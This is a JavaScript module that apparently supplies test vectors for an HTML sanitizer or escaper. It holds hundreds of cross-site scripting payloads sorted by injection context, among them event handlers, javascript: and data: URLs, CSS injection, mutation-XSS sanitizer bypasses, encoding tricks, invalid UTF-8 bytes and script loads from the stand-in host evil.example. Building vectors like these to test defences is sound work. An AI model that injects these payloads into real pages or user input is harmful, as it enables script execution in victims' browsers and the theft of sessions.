// Hostile texts, by their targets. Each runs pwn() if it is not stopped.

const tags = [
  '<script>pwn()</script>',
  '<SCRIPT>pwn()</SCRIPT>',
  '<script >pwn()</script >',
  '<script/x>pwn()</script>',
  '<script\n>pwn()</script\n>',
  '<script src=//evil.example/x.js></script>',
  '<script src="data:text/javascript,pwn()"></script>',
  '<script type=module>pwn()</script>',
  '<scr<script>ipt>pwn()</scr</script>ipt>',
  '<script>pwn()//',
  '<<script>pwn()//<</script>',
  '<svg><script>pwn()</script></svg>',
  '<svg><script xlink:href="data:,pwn()"></script></svg>',
  '<iframe src="javascript:parent.pwn()"></iframe>',
  '<iframe srcdoc="<script>parent.pwn()</script>"></iframe>',
  '<object data="javascript:pwn()"></object>',
  '<embed src="javascript:pwn()">',
  '<base href="//evil.example/">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=javascript:pwn()">',
  '<form action=javascript:pwn()><input type=submit autofocus></form>',
  '<isindex action=javascript:pwn() type=image>',
  '<template><script>pwn()</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=pwn()>">',
  '<plaintext><script>pwn()</script>',
  '<xmp><script>pwn()</script></xmp>',
  '<frameset onload=pwn()>',
  '<portal src="javascript:pwn()"></portal>',
  '<?xml-stylesheet href="javascript:pwn()"?>',
  '<!doctype x [<!entity y "<script>pwn()</script>">]>&y;',
];

const handlers = [
  ['img src=x', 'onerror'], ['img src=/x', 'onload'], ['svg', 'onload'], ['body', 'onload'],
  ['body', 'onpageshow'], ['input autofocus', 'onfocus'], ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'], ['details open', 'ontoggle'], ['video src=x', 'onerror'],
  ['audio src=x', 'onerror'], ['video><source', 'onerror'], ['marquee', 'onstart'],
  ['object data=x', 'onerror'], ['iframe', 'onload'], ['style', 'onload'], ['link rel=stylesheet href=data:,', 'onload'],
  ['script src=x', 'onerror'], ['div style=animation:x', 'onanimationstart'], ['a href=# tabindex=1', 'onfocusin'],
  ['svg><animate attributeName=x dur=1s', 'onbegin'], ['svg><set attributeName=x', 'onbegin'],
  ['math', 'onclick'], ['x contenteditable', 'onblur'], ['keygen autofocus', 'onfocus'],
].flatMap(([tag, event]) => [`<${tag} ${event}=pwn()>`, `"><${tag} ${event}=pwn()>`, `'><${tag} ${event.toUpperCase()}="pwn()">`]);

const attributes = [
  '" onmouseover="pwn()', "' onmouseover='pwn()", '" onfocus=pwn() autofocus x="', "' onfocus=pwn() autofocus x='",
  '"onclick=pwn()//', '" style="animation:x" onanimationstart="pwn()', '"/onload=pwn()//', '"\nonload=pwn()\n"',
  '"\tonerror\t=\tpwn()', '" src=x onerror=pwn()>', '`onmouseover=pwn()`', 'x onmouseover=pwn()', '/onmouseover=pwn()/',
  '" formaction="javascript:pwn()', '"><a href="javascript:pwn()">', '" srcdoc="<script>parent.pwn()</script>',
  '" http-equiv="refresh" content="0;url=javascript:pwn()', '&quot; onload=&quot;pwn()', '&#34; onload=pwn() x=&#34;',
  '&#x27;><img src=x onerror=pwn()>', '&lt;img src=x onerror=pwn()&gt;', '&amp;quot; onload=pwn()', '&#60script&#62pwn()&#60/script&#62',
  '" is="x-y" onload="pwn()', '"=""onload=pwn()>', "'=''onload=pwn()>",
];

const schemes = ['javascript', 'vbscript', 'livescript', 'JaVaScRiPt'].flatMap((scheme) => [
  `${scheme}:pwn()`, ` ${scheme}:pwn()`, `\t${scheme}:pwn()`, `\u0001${scheme}:pwn()`, `\u00a0${scheme}:pwn()`,
  `${scheme} :pwn()`, `${scheme}\t:pwn()`, `${scheme}\n:pwn()`, `${scheme}&#58;pwn()`, `${scheme}&colon;pwn()`,
  `${scheme}%3Apwn()`, `${scheme}\u0000:pwn()`, `${scheme.slice(0, 4)}\t${scheme.slice(4)}:pwn()`,
  `${scheme.slice(0, 2)}\r\n${scheme.slice(2)}:pwn()`, `${scheme.slice(0, 4)}&#9;${scheme.slice(4)}:pwn()`,
  `${scheme.slice(0, 4)}&NewLine;${scheme.slice(4)}:pwn()`, `${scheme.slice(0, 4)}\u0000${scheme.slice(4)}:pwn()`,
  `${scheme}://%0apwn()`, `${scheme}://x.example/%0Apwn()`, `${scheme}:/*--></title></style></textarea></script>*/pwn()`,
]).concat([
  '&#106;avascript:pwn()', '&#x6A&#x61&#x76&#x61&#x73cript:pwn()', '&#0000106avascript:pwn()', '\\6a avascript:pwn()',
  '\\u006aavascript:pwn()', 'data:text/html,<script>parent.pwn()</script>', 'data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduKCk8L3NjcmlwdD4=',
  'DATA:text/html,<script>parent.pwn()</script>', 'data:text/javascript,pwn()', 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="parent.pwn()"/>',
  'data:,pwn()', 'blob:http://evil.example/1', 'filesystem:http://evil.example/x', 'view-source:javascript:pwn()',
  'feed:javascript:pwn()', 'jar:javascript:pwn()', 'mhtml:javascript:pwn()', 'about:blank#<script>pwn()</script>', 'x-javascript:pwn()',
  '//evil.example/x.js', '/\\evil.example/x.js', '\\\\evil.example/x.js', '/\t/evil.example/x.js', '///evil.example/x.js',
  '/%2fevil.example/x.js', 'https://evil.example/x.js', 'HTTP:evil.example/x.js', 'http:/evil.example/x.js', 'https:\\\\evil.example\\x.js',
  ' //evil.example/x.js', '\n//evil.example/x.css', './/evil.example/x.js', '../../evil', '?javascript:pwn()', '#javascript:pwn()',
  ':javascript:pwn()', 'javascript', 'javascript:', 'a:b:javascript:pwn()', 'http://a@evil.example/', 'mailto:a@b?subject=javascript:pwn()',
]);

const scripts = [
  '";pwn();//', "';pwn();//", '`;pwn();//', '\\";pwn();//', "\\';pwn();//", '\\\\";pwn();//', '");pwn();//', "');pwn();//",
  '"+pwn()+"', "'+pwn()+'", '${pwn()}', '`${pwn()}`', '{{pwn()}}', '#{pwn()}', '<%= pwn() %>', '"-pwn()-"', "'-pwn()-'",
  '</script><script>pwn()</script>', '</SCRIPT ><img src=x onerror=pwn()>', '</script\n><script>pwn()//', '<!--<script>', '<!--<script>pwn()//-->',
  '<!-- --><script>pwn()</script>', '-->\npwn()//', '*/pwn()/*', '/*', '//', '\npwn()//', '\rpwn()//', '\r\npwn()//', '\u2028pwn()//', '\u2029pwn()//',
  '"\u2028pwn()//', '\\', '\\\n', '"', "'", '\\u0022;pwn()//', '\\x22;pwn()//', '\\u0027;pwn()//', '&quot;;pwn();//', '&#39;;pwn();//', '&#x27);pwn();//',
  '/;pwn();/', '/.source;pwn()//', ']};pwn();//', '}};pwn();({', ');pwn();(', '1;pwn()', '-1', '--pwn()', 'pwn()', 'pwn``', '[pwn()]',
  '__proto__', 'constructor.constructor("pwn()")()', '";window["pwn"]();"', '\\u003cscript\\u003epwn()\\u003c/script\\u003e', '\u0000";pwn()//',
  '</script', '</', '<script', '<!--', '-->', ']]>', '<![CDATA[', '</style', '</textarea',
];

const texts = [
  '</textarea><script>pwn()</script>', '</title><script>pwn()</script>', '</TEXTAREA\t><img src=x onerror=pwn()>', '</p></section></body></html><script>pwn()</script>',
  '--><script>pwn()</script>', '--!><script>pwn()</script>', '-- ><script>pwn()</script>', '<!--><script>pwn()</script>', '<!---><img src=x onerror=pwn()>',
  ']]><script>pwn()</script>', '<![CDATA[<script>pwn()</script>]]>', '</template><script>pwn()</script>', '</select><img src=x onerror=pwn()>', '</option></select><script>pwn()</script>',
  '</td></tr></table><script>pwn()</script>', '</svg><script>pwn()</script>', '</title></svg><img src=x onerror=pwn()>', '</math><img src=x onerror=pwn()>',
  '<!--[if IE]><script>pwn()</script><![endif]-->', '<![if true]><img src=x onerror=pwn()><![endif]>', '</noscript><img src=x onerror=pwn()>', '</iframe><script>pwn()</script>',
];

const styles = [
  '</style><script>pwn()</script>', '</STYLE ><img src=x onerror=pwn()>', 'expression(pwn())', 'exp/**/ression(pwn())', 'e\\78pression(pwn())', 'red;background:url(javascript:pwn())',
  'red;background:url(//evil.example/x.png)', 'url(javascript:pwn())', 'url("javascript:pwn()")', 'URL(//evil.example/y.png)', 'u\\72l(//evil.example/z.png)', '-moz-binding:url(//evil.example/x.xml#pwn)',
  'behavior:url(//evil.example/x.htc)', '@import "//evil.example/x.css";', "@import url('//evil.example/y.css');", '}@import "//evil.example/x.css";{', '} * { background: url(//evil.example/w.png) } a {', '"; background: url(//evil.example/q.png); "',
  "'; background: url(//evil.example/r.png); '", '\\"; background: url(//evil.example/s.png); \\"', '\\', '\n}*{background:url(//evil.example/t.png)}', '") ; background: url(//evil.example/u.png', ') ; background: url(//evil.example/v.png',
  '/*', '*/', '<!--', 'image-set("//evil.example/a.png" 1x)', 'src("//evil.example/b.png")', 'attr(x url)', 'var(--x, url(//evil.example/c.png))', 'red\\', '\\22 ;background:url(//evil.example/d.png)', '\u0000}*{background:url(//evil.example/e.png)}',
];

const sets = [
  'x 1x, javascript:pwn() 2x', 'javascript:pwn() 1x', 'x.png 1x" onerror="pwn()', ',javascript:pwn()', 'x 1x,data:text/html,<script>pwn()</script> 2x', 'x" onload="pwn() 1x', 'a.png 1x onerror=pwn()', 'a.png, b.png 2x',
];

const mutations = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=pwn()&gt;">',
  '<svg></p><style><a id="</style><img src=x onerror=pwn()>">', '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=pwn()>',
  '<svg><desc><![CDATA[</desc><script>pwn()</script>]]></svg>', '<math><annotation-xml encoding="text/html"><script>pwn()</script></annotation-xml></math>',
  '<svg><foreignObject><iframe onload=pwn()></foreignObject></svg>', '<svg><style>&lt;img src=x onerror=pwn()&gt;</style></svg>', '<svg><a xlink:href="javascript:pwn()"><text>x</text></a></svg>',
  '<svg><animate href=#x attributeName=href values=javascript:pwn() /></svg>', '<svg><use href="data:image/svg+xml,<svg id=x onload=pwn() />#x"/></svg>', '<listing>&lt;img onerror=pwn() src=x&gt;</listing>',
  '<p title="`<img src=x onerror=pwn()>`">', '<table><td><noscript><p id="</noscript><img src=x onerror=pwn()>">', '<select><template shadowrootmode=open><img src=x onerror=pwn()>', '<b><p title="</b><img src=x onerror=pwn()>">',
];

const encodings = [
  '+ADw-script+AD4-pwn()+ADw-/script+AD4-', '+ADsAcAB3AG4AKAApADs-', '\u001b$B<script>pwn()</script>', '\u001b(J";pwn()//', '\ufeff<script>pwn()</script>', '\u202e<script>pwn()</script>', '\u2066" onload=pwn()\u2069', '\u200b<script>pwn()</script>',
  '\uff1cscript\uff1epwn()\uff1c/script\uff1e', '\u02bapwn()', '\u2039script\u203a', '<scr\u0000ipt>pwn()</scr\u0000ipt>', '<\u0000script>pwn()</script>', '\u0000<script>pwn()</script>', '<img src=x on\u0000error=pwn()>', '<\u017fcript>pwn()</\u017fcript>',
  '%3Cscript%3Epwn()%3C/script%3E', '%253Cscript%253Epwn()', '%22%20onload=pwn()', '\\u003cscript>pwn()</script>', '\u00bcscript\u00bepwn()\u00bc/script\u00be', '\u{1f4a9}<script>pwn()</script>',
];

/** Invalid UTF-8: overlong forms, lone continuation bytes, incomplete sequences. */
const bytes = [
  [0xc0, 0xbc, ...Buffer.from('script>pwn()</script>')], [0xe0, 0x80, 0xbc, ...Buffer.from('script>pwn()')], [0xc0, 0xa2, ...Buffer.from(' onload=pwn()')], [0xc0, 0x80, 0x22],
  [...Buffer.from('x'), 0xe2, 0x80], [0xc2, ...Buffer.from('" onload=pwn()')], [0xf0, 0x9f, 0x92, ...Buffer.from('"><script>pwn()</script>')], [0xe0, 0x22, 0x3e, ...Buffer.from('<script>pwn()</script>')],
  [0x80, 0xbf, ...Buffer.from('<script>pwn()</script>')], [0xff, 0xfe, 0x3c, 0x00, 0x73, 0x00], [0xed, 0xa0, 0x80, ...Buffer.from("';pwn()//")], [0xe2, 0x22, ...Buffer.from(';pwn()//')], [0xe2, 0x80, 0x27, ...Buffer.from(';pwn()//')],
].map((list) => Buffer.from(list));

const strings = [...tags, ...handlers, ...attributes, ...schemes, ...scripts, ...texts, ...styles, ...sets, ...mutations, ...encodings];

/** All of them, as bytes, each once. */
export const vectors = [...new Set(strings)].map((text) => Buffer.from(text, 'utf8')).concat(bytes);
